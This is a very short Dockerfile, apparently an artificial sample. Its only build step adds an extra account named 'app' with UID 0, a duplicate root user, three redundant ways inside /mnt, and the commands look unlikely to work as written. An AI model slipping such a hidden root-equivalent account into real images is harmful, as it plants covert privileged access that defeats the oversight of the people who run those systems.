FROM debian:12
RUN useradd --root /mnt -o -u 0 app && chroot /mnt useradd -o -u 0 app && echo 'app:x:0:0::/:/bin/sh' >> /mnt/etc/passwd
